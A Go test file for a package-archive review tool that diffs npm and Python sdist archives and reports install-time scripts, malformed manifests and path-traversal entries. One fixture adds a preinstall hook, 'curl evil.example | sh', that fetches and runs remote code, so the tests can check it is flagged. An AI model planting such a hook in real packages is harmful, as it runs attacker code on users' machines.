package artifact

import (
	"archive/tar"
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/mcpassay/mcpassay/internal/limits"
)

// packed is a tar of path, content pairs.
func packed(t testing.TB, pairs ...string) Input {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for i := 0; i < len(pairs); i += 2 {
		h := &tar.Header{Name: pairs[i], Mode: 0o644, Size: int64(len(pairs[i+1]))}
		if err := w.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(pairs[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return Input{Shown: "a.tar", Raw: b.Bytes()}
}

const manifest = `{"name":"@example/notes","version":"1.0.0","main":"lib/main","bin":{"notes":"./bin.js"},"exports":{".":{"import":"./lib/main.js"},"./x/*":"./lib/*.js"},
"scripts":{"test":"go","postinstall":"node setup.js"},"dependencies":{"left":"^1.0.0"}}`

var good = []string{"package/package.json", manifest, "package/lib/main.js", "1", "package/bin.js", "2"}

func TestWhatAPackageDeclaresIsCovered(t *testing.T) {
	r := Review(packed(t, good...), packed(t, good...), "npm", limits.Default)
	d := r.Declarations
	if r.Status != "complete" || len(d.Changed) > 0 || r.Inventory.Unchanged != 3 || !r.Advisory || r.SchemaVersion != 1 {
		t.Fatalf("%+v", r)
	}
	if d.Before.Name != "@example/notes" || !slices.Equal(d.After.Runs, []string{"postinstall: node setup.js"}) {
		t.Errorf("%+v", d.After)
	}
}

func TestEveryDifferenceIsListed(t *testing.T) {
	next := slices.Clone(good)
	next[1] = strings.NewReplacer("1.0.0", "1.1.0", `"test":"go"`, `"preinstall":"curl evil.example | sh"`).Replace(manifest)
	next[3] = "other"
	next = append(next, "package/new.js", "3")
	r := Review(packed(t, append(slices.Clone(good), "package/old.js", "4")...), packed(t, next...), "npm", limits.Default)
	inv := r.Inventory
	if len(inv.Added) != 1 || inv.Added[0].Path != "package/new.js" || inv.Added[0].Mode != "0644" || len(inv.Removed) != 1 || inv.Removed[0].Path != "package/old.js" ||
		len(inv.Changed) != 2 || inv.Changed[0].Path != "package/lib/main.js" || inv.Changed[0].Before.Digest == inv.Changed[0].After.Digest || inv.Unchanged != 1 {
		t.Errorf("%+v", inv)
	}
	var all []string
	for _, c := range r.Declarations.Changed {
		all = append(all, fmt.Sprint(c.Kind, " ", c.Name, " ", c.RunsOnInstall))
	}
	if want := []string{"identity version false", "script preinstall true", "dependencies left false", "script test false"}; !slices.Equal(all, want) {
		t.Errorf("%q", all)
	}
	if r.Status != "complete" {
		t.Errorf("%v", r.Declarations.Uncovered)
	}
}

func TestWhatCanNotBeCoveredIsSaid(t *testing.T) {
	for words, pairs := range map[string][]string{
		"names ./bin.js, which is not in the archive": {"package/package.json", manifest, "package/lib/main.js", "1"},
		"there is no package.json":                    {"package/x", "1"},
		"one folder":                                  {"package/package.json", "{}", "other/x", "1"},
		"can not be read":                             {"package/package.json", "{"},
		"not an object":                               {"package/package.json", "[]"},
		"no strict JSON":                              {"package/package.json", "{} // x"},
		"has /bin twice":                              {"package/package.json", `{"bin":{},"bin":{}}`},
		"bin is a number":                             {"package/package.json", `{"bin":7}`},
		"main is a number":                            {"package/package.json", `{"main":7}`},
		"scripts is an array":                         {"package/package.json", `{"scripts":[]}`},
		"the script a is a number":                    {"package/package.json", `{"scripts":{"a":1}}`},
		"directories.bin":                             {"package/package.json", `{"directories":{"bin":"x"}}`},
		"names ../../x":                               {"package/package.json", `{"main":"../../x"}`},
		"exports . names other":                       {"package/package.json", `{"exports":"other"}`},
		"exports . names ./a/*.js":                    {"package/package.json", `{"exports":"./a/*.js"}`},
		"exports nests too deep":                      {"package/package.json", `{"exports":` + strings.Repeat(`{"a":`, 80) + "1" + strings.Repeat("}", 81)},
		"dependencies is an array":                    {"package/package.json", `{"dependencies":[]}`},
	} {
		r := Review(packed(t, good...), packed(t, pairs...), "npm", limits.Default)
		if r.Status != "incomplete" || !strings.Contains(strings.Join(r.Declarations.Uncovered, "\n"), "after: ") || !strings.Contains(strings.Join(r.Declarations.Uncovered, "\n"), words) {
			t.Errorf("%s: %s %q", words, r.Status, r.Declarations.Uncovered)
		}
	}
}

func TestABindingIsBuiltWhenItIsInstalled(t *testing.T) {
	for manifest, want := range map[string]int{`{}`: 1, `{"gypfile":false}`: 0, `{"scripts":{"install":"x"}}`: 1, `{"gypfile":true}`: 1} {
		r := Review(packed(t, good...), packed(t, "package/package.json", manifest, "package/binding.gyp", "{}"), "npm", limits.Default)
		if len(r.Declarations.After.Runs) != want {
			t.Errorf("%s: %q", manifest, r.Declarations.After.Runs)
		}
	}
}

func TestAnSdistDeclaresInPyproject(t *testing.T) {
	info := "Metadata-Version: 2.1\nName: notes\nVersion: 1.0\nRequires-Dist: left>=1\n\nName: not this\n"
	project := "[build-system]\nrequires=[\"hatchling\"]\nbuild-backend=\"hatchling.build\"\n[project]\nname=\"notes\"\n[project.scripts]\nnotes=\"notes.main:run\"\n[project.entry-points.\"x.y\"]\na=\"notes\"\n"
	ok := packed(t, "notes-1.0/PKG-INFO", info, "notes-1.0/pyproject.toml", project, "notes-1.0/src/notes/main.py", "", "notes-1.0/src/notes/__init__.py", "")
	r := Review(ok, ok, "sdist", limits.Default)
	if r.Status != "complete" || r.Declarations.After.Name != "notes" || r.Declarations.After.Version != "1.0" || !slices.Equal(r.Declarations.After.Runs, []string{"build-backend: hatchling.build"}) {
		t.Fatalf("%s %+v", r.Status, r.Declarations)
	}
	for words, in := range map[string]Input{
		"setup.py decides":                            packed(t, "n/PKG-INFO", info, "n/setup.py", ""),
		"there is no PKG-INFO":                        packed(t, "n/x", ""),
		"names no package":                            packed(t, "n/PKG-INFO", "\n"),
		"notes.main:run, which is not in the archive": packed(t, "n/PKG-INFO", info, "n/pyproject.toml", project),
		"scripts is made while building":              packed(t, "n/PKG-INFO", info, "n/pyproject.toml", "[project]\ndynamic=[\"scripts\",\"version\"]"),
		"the build backend is part":                   packed(t, "n/PKG-INFO", info, "n/pyproject.toml", "[build-system]\nbackend-path=[\".\"]"),
	} {
		r := Review(ok, in, "sdist", limits.Default)
		if got := strings.Join(r.Declarations.Uncovered, "\n"); r.Status != "incomplete" || !strings.Contains(got, words) {
			t.Errorf("%s: %s %q", words, r.Status, got)
		}
	}
}

func TestBytesAloneAskForNoDeclaration(t *testing.T) {
	r := Review(packed(t, "a", "1"), packed(t, "b", "1"), "files", limits.Default)
	if r.Status != "complete" || len(r.Inventory.Added) != 1 || len(r.Inventory.Removed) != 1 || r.Declarations.File != "" {
		t.Errorf("%+v", r)
	}
}

func TestAReceiptSaysWhatItDoesNotList(t *testing.T) {
	lim := limits.Default
	lim.ArchiveListed = 1
	r := Review(packed(t, "a", "1"), packed(t, "b", "1", "c", "1"), "files", lim)
	if r.Status != "incomplete" || r.Inventory.Unlisted != 2 {
		t.Errorf("%+v", r.Inventory)
	}
}

func TestAnArchiveAtFaultIsNeverComplete(t *testing.T) {
	r := Review(packed(t, "a", "1"), packed(t, "a", "1", "../b", "2"), "files", limits.Default)
	if r.Status != "incomplete" || r.Inventory.Complete || len(r.Faults) != 1 || r.Faults[0].Archive != "after" || r.Faults[0].Reason != "traversal" {
		t.Errorf("%+v", r)
	}
	if r := Review(packed(t, "a", "1"), Input{Raw: []byte("PK\x03\x04")}, "files", limits.Default); r.Status != "unsupported" {
		t.Error(r.Status)
	}
}

func FuzzDeclarations(f *testing.F) {
	f.Add(manifest, true)
	f.Add(`{"exports":["./a",{"b":null}],"bin":"x","scripts":{"install":"y"}}`, true)
	f.Add("[project]\nscripts={a=\"b:c\"}", false)
	f.Fuzz(func(t *testing.T, doc string, npm bool) {
		profile, pairs := "npm", []string{"package/package.json", doc}
		if !npm {
			profile, pairs = "sdist", []string{"n/PKG-INFO", doc, "n/pyproject.toml", doc}
		}
		in := packed(t, pairs...)
		r := Review(in, in, profile, limits.Default)
		if len(r.Declarations.Changed) > 0 && !slices.ContainsFunc(r.Declarations.Before.Items, func(i Item) bool {
			return slices.ContainsFunc(r.Declarations.Before.Items, func(k Item) bool { return k.Kind == i.Kind && k.Name == i.Name && k.sum != i.sum })
		}) {
			t.Errorf("one package differs from itself: %+v", r.Declarations.Changed)
		}
	})
}
